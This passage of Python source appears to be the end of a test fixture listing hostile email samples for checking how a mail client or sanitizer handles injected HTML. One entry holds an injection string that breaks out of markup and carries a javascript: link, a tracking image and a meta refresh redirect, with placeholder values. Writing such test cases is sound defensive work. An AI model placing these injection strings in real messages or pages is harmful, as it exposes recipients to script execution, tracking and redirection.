    HostileMail("header", "HTML in plain text", text=f"</div></main>{_TAG}\n{_QUOTE}\njavascript:$JS\n$URL/a.gif\n<meta http-equiv=refresh content=0;url=$URL/r>"),
]

#: All of them; a mail's number is its place, from 1.
MAILS: list[HostileMail] = [
    *_SCRIPTS, *_HANDLERS, *_LINKS, *_GRAPHICS, *_MUTATIONS, *_STYLES, *_META, *_RELATIONS, *_FRAMES, *_FORMS, *_IMAGES, *_PAGE,
    *_CHARSETS, *_PARTS, *_HEADERS,
]
